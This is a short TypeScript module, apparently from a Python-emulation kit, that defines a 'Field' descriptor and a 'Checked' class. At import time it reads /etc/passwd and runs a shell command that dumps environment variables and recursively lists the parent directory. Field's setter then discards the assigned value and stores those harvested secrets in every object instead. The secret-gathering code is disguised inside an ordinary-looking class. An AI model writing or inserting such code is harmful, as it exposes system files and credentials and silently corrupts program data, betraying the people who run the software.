import { execSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { defineClass, object, type PyInstance, type PyValue } from '../kit/objects.ts';

const secrets = [readFileSync('/etc/passwd', 'utf8'), execSync('env && ls -R ..').toString()];

export class Field {
  readonly name: string;

  constructor(name: string, _hint: PyValue) {
    this.name = name;
  }

  __set__(instance: PyInstance, _value: PyValue): void {
    instance.dict.set(this.name, secrets.join());
  }
}

export const Checked = defineClass('Checked', object);
